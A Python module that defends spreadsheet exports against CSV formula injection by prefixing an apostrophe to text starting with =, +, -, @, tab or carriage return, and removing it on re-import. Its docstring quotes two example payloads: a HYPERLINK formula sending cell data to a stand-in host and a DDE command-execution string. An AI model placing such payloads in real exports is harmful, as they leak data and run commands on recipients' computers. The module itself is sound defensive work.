"""The formula rule for spreadsheet cells, written and read.

A spreadsheet runs a text cell that begins with = + - @ as a formula, and Excel drops a leading
tab or carriage return before it looks. An export holding `=HYPERLINK("http://x/?"&A2, "点击")`
or a DDE payload such as `-2+3+cmd|' /C calc'!A0` would then leak the sheet or run a command on
the office's computer when someone opens it (OWASP: CSV injection).

Writing: a *text* cell that begins with one of `FORMULA_LEADS` gets a leading apostrophe
(`safe_cell`), which every spreadsheet shows as text. Numbers, dates and None pass unchanged: a
number -3 is not a formula. The text "-3" is prefixed too ("'-3"): a writer cannot tell it from
`-2+3+cmd|...`, so values that are numbers must be exported as numbers. Phone numbers are
stored as 11 digits without "+86"; an export that shows "+86 138..." as text gets "'+86 138...",
which is also what keeps Excel from turning it into 8.6E+12.

Reading (`unneutralise`): an apostrophe in front of a lead is dropped again, so a file we wrote
reads back as the values we wrote. The ledger import then refuses a free-text value that begins
with a lead (exchange.ledger.validate, reason `formula_lead`), as the name column always did:
no legitimate ledger text begins with one, and a value refused at the door cannot reach an
export, a console page or a contractor. Structured columns (ID number, phone, dates, numbers,
vocabularies) are parsed into their own form, so nothing formula-like survives them either;
the phone column accepts a "+86" prefix and stores the 11 digits.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from decimal import Decimal

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

CellValue = str | int | float | Decimal | date | None


def starts_like_formula(text: str) -> bool:
    """True when a spreadsheet would read this text as the start of a formula."""
    return text.startswith(FORMULA_LEADS)


def safe_cell(value: CellValue) -> CellValue:
    """The value to write: text that could start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def safe_row(values: Iterable[CellValue]) -> list[CellValue]:
    return [safe_cell(v) for v in values]


def unneutralise(text: str) -> str:
    """A cell as read: the apostrophe `safe_cell` added is dropped again."""
    if len(text) > 1 and text[0] == "'" and text[1] in FORMULA_LEADS:
        return text[1:]
    return text
